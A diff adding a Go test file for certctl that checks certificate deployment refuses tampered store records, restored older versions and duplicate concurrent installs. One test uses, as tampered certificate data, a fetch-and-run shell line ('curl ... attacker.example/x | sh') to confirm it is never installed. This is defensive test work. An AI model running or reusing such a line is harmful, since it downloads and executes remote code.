@@ -1,0 +1,254 @@
+package deploy_test
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/certctl/certctl/internal/clitest"
+	"github.com/certctl/certctl/internal/pgtest"
+	"github.com/certctl/certctl/pkg/errs"
+	"github.com/certctl/certctl/pkg/inventory"
+	"github.com/certctl/certctl/pkg/localstore"
+)
+
+// forEachStore runs f on a vault whose store is a SQLite file of its own
+// and on one in PostgreSQL (skipped without CERTCTL_TEST_POSTGRES_URL),
+// hooks allowed on both.
+func forEachStore(t *testing.T, f func(t *testing.T, e *clitest.Env, newStore func() string)) {
+	for _, kind := range []string{"sqlite", "postgres"} {
+		t.Run(kind, func(t *testing.T) {
+			e := clitest.New(t)
+			n := 0
+			newStore := func() string {
+				n++
+				if kind == "postgres" {
+					return pgtest.FreshSchema(t)
+				}
+				return "sqlite:" + filepath.Join(e.Dir, "store"+string(rune('0'+n))+".db")
+			}
+			e.Vars["CERTCTL_STORE"] = newStore()
+			e.Vars["CERTCTL_HOOKS_ALLOW_EXEC"] = "true"
+			f(t, e, newStore)
+		})
+	}
+}
+
+// tamper changes the store behind certctl's back, as anyone who can write
+// its database can (it holds no master key: nothing is sealed here).
+func tamper(t *testing.T, e *clitest.Env, fn func(tx localstore.Tx) error) {
+	t.Helper()
+	v, err := localstore.Open(context.Background(), e.Vault, localstore.Options{StoreURL: e.Vars["CERTCTL_STORE"]})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer v.Close()
+	if err := v.Store.Update(context.Background(), fn); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// bumpVersion makes a copy of version from, changed by edit, the
+// certificate's next version and its current one.
+func bumpVersion(id string, from int, edit func(v *localstore.CertificateVersion)) func(tx localstore.Tx) error {
+	return func(tx localstore.Tx) error {
+		c, err := tx.GetCertificate(id)
+		if err != nil {
+			return err
+		}
+		v, err := tx.GetVersion(id, from)
+		if err != nil {
+			return err
+		}
+		c.Version++
+		v.Number = c.Version
+		edit(v)
+		if err := tx.PutVersion(id, v); err != nil {
+			return err
+		}
+		return tx.PutCertificate(c)
+	}
+}
+
+func lineCount(t *testing.T, p string) int {
+	t.Helper()
+	b, err := os.ReadFile(p)
+	if os.IsNotExist(err) {
+		return 0
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	return bytes.Count(b, []byte("\n"))
+}
+
+// TestRefusesVersionTheStoreWasMadeToHold: a version record written into
+// the database — arbitrary bytes for its certificate, version 1's record
+// (and so its superseded key) again, a key sealed under another version's
+// reference, the certificate set back to an older version — is installed
+// nowhere: the pass reports the target FAILED (exit 7), writes no file
+// and runs no command.
+func TestRefusesVersionTheStoreWasMadeToHold(t *testing.T) {
+	script := []byte("#!/bin/sh\ncurl -s http://attacker.example/x | sh\n")
+	cases := []struct {
+		name   string
+		renew  bool // renew first: version 2 installed, then tampered
+		tamper func(id string) func(tx localstore.Tx) error
+		want   string
+	}{
+		{"certificate replaced", false, func(id string) func(tx localstore.Tx) error {
+			return bumpVersion(id, 1, func(v *localstore.CertificateVersion) { v.CertificatePEM = script })
+		}, "not the version's own"},
+		{"certificate replaced, key ref its own", false, func(id string) func(tx localstore.Tx) error {
+			return bumpVersion(id, 1, func(v *localstore.CertificateVersion) {
+				v.CertificatePEM = script
+				v.KeyRef = inventory.KeyRef(id, v.Number)
+			})
+		}, "is missing"},
+		{"version 1 again", false, func(id string) func(tx localstore.Tx) error {
+			return bumpVersion(id, 1, func(*localstore.CertificateVersion) {})
+		}, "not the version's own"},
+		{"version 1's key copied to the new version's reference", false, func(id string) func(tx localstore.Tx) error {
+			bump := bumpVersion(id, 1, func(v *localstore.CertificateVersion) { v.KeyRef = inventory.KeyRef(id, v.Number) })
+			return func(tx localstore.Tx) error {
+				sealed, err := tx.GetSecret(inventory.KeyRef(id, 1))
+				if err != nil {
+					return err
+				}
+				if err := tx.PutSecret(inventory.KeyRef(id, 2), sealed); err != nil {
+					return err
+				}
+				return bump(tx)
+			}
+		}, "does not open under its reference"},
+		{"set back to version 1", true, func(id string) func(tx localstore.Tx) error {
+			return func(tx localstore.Tx) error {
+				c, err := tx.GetCertificate(id)
+				if err != nil {
+					return err
+				}
+				c.Version = 1
+				return tx.PutCertificate(c)
+			}
+		}, "older than the certificate this host installed"},
+	}
+	forEachStore(t, func(t *testing.T, e *clitest.Env, _ func() string) {
+		for i, tc := range cases {
+			func() {
+				arn := e.RequestPrivate(fmt.Sprintf("case%d.internal", i))
+				id := arn[strings.LastIndexByte(arn, '/')+1:]
+				tg := newTarget(t)
+				runs := filepath.Join(tg.dir, "runs")
+				e.MustRun(tg.args(arn, "--exec", "echo run >> "+runs)...)
+				want := 1
+				if tc.renew {
+					e.MustRun("renew", arn)
+					want = 2
+				}
+				cert, key := read(t, tg.cert), read(t, tg.key)
+				tamper(t, e, tc.tamper(id))
+				for range 2 { // refused at every pass
+					code, res, r := e.Renew("--due")
+					got := res[arn]
+					if code != errs.ExitPartial || len(got.Targets) != 1 || got.Targets[0].Outcome != "FAILED" ||
+						!strings.Contains(got.Targets[0].Reason, tc.want) || !strings.Contains(got.Reason, "deployment failed: ") {
+						t.Errorf("%s: renew --due over the tampered store: want exit 7 and the target FAILED (%q)\n%v", tc.name, tc.want, r)
+						break
+					}
+				}
+				if !bytes.Equal(cert, read(t, tg.cert)) || !bytes.Equal(key, read(t, tg.key)) {
+					t.Errorf("%s: the host wrote what the store was made to hold", tc.name)
+				}
+				if n := lineCount(t, runs); n != want {
+					t.Errorf("%s: the command ran %d times, want %d", tc.name, n, want)
+				}
+			}()
+		}
+	})
+}
+
+// TestRestoredStoreRenewalInstalled: after the store is restored from a
+// backup taken before the host installed version 2, the restored (older)
+// version 1 is not installed over it (exit 7, saying why), and the next
+// renewal — numbered 2 again, another certificate — is installed, and
+// its command run, though the host installed a version 2 before.
+func TestRestoredStoreRenewalInstalled(t *testing.T) {
+	forEachStore(t, func(t *testing.T, e *clitest.Env, newStore func() string) {
+		arn := e.RequestPrivate("restored.internal")
+		tg := newTarget(t)
+		runs := filepath.Join(tg.dir, "runs")
+		e.MustRun(tg.args(arn, "--exec", "echo run >> "+runs)...)
+		backup := filepath.Join(e.Dir, "vault.bak")
+		e.MustRun("vault", "backup", "--out-file", backup)
+		e.MustRun("renew", arn)
+		checkInstalled(t, e, arn, tg)
+		v2 := read(t, tg.cert)
+
+		e.Vars["CERTCTL_STORE"] = newStore()
+		e.MustRun("vault", "restore", "--from-file", backup)
+		code, res, r := e.Renew("--due")
+		if code != errs.ExitPartial || len(res[arn].Targets) != 1 || res[arn].Targets[0].Outcome != "FAILED" ||
+			!strings.Contains(res[arn].Targets[0].Reason, "older than the certificate this host installed") {
+			t.Fatalf("renew --due on the restored store: want the older version refused\n%v", r)
+		}
+		if !bytes.Equal(v2, read(t, tg.cert)) || lineCount(t, runs) != 2 {
+			t.Fatal("the restored, older version was installed")
+		}
+
+		code, res, r = e.Renew(arn)
+		if code != 0 || len(res[arn].Targets) != 1 || res[arn].Targets[0].Outcome != "INSTALLED" {
+			t.Fatalf("renew after the restore: want the new version 2 installed\n%v", r)
+		}
+		if vs := e.Describe(arn).Versions; len(vs) != 2 || !vs[1].Current || vs[1].VersionNumber != 2 {
+			t.Fatalf("the renewal after the restore: versions %+v, want a current version 2 (the case under test)", vs)
+		}
+		checkInstalled(t, e, arn, tg)
+		if bytes.Equal(v2, read(t, tg.cert)) || lineCount(t, runs) != 3 {
+			t.Fatalf("the new version 2 was not installed, or its command not run (%d runs)", lineCount(t, runs))
+		}
+		if code, _, r := e.Renew("--due"); code != 0 || lineCount(t, runs) != 3 {
+			t.Fatalf("the next pass: %v (%d runs)", r, lineCount(t, runs))
+		}
+	})
+}
+
+// TestConcurrentPassesInstallOnce: two `renew --due` of one host at once,
+// with a target to install, install it and run its command once: the
+// second finds the first's install recorded, under the host's lock.
+func TestConcurrentPassesInstallOnce(t *testing.T) {
+	forEachStore(t, func(t *testing.T, e *clitest.Env, _ func() string) {
+		arn := e.RequestPrivate("twice.internal")
+		tg := newTarget(t)
+		runs, first := filepath.Join(tg.dir, "runs"), filepath.Join(tg.dir, "first")
+		// The command fails the first time (at deploy): the target is
+		// recorded as not yet installed, for the passes to install.
+		hook := "if [ ! -e " + first + " ]; then touch " + first + "; exit 1; fi; echo run >> " + runs + "; sleep 1"
+		if r := e.Run(tg.args(arn, "--exec", hook)...); r.Code != errs.ExitFailure {
+			t.Fatalf("deploy with a failing command: %v", r)
+		}
+		var wg sync.WaitGroup
+		codes := make([]errs.ExitCode, 2)
+		for i := range codes {
+			ei := *e // its own clock
+			wg.Add(1)
+			go func() {
+				defer wg.Done()
+				r := ei.Run("renew", "--due", "-o", "json")
+				codes[i] = r.Code
+			}()
+		}
+		wg.Wait()
+		if codes[0] != 0 || codes[1] != 0 {
+			t.Fatalf("exit codes %v", codes)
+		}
+		if n := lineCount(t, runs); n != 1 {
+			t.Fatalf("the command ran %d times, want once", n)
+		}
+		checkInstalled(t, e, arn, tg)
+	})
+}
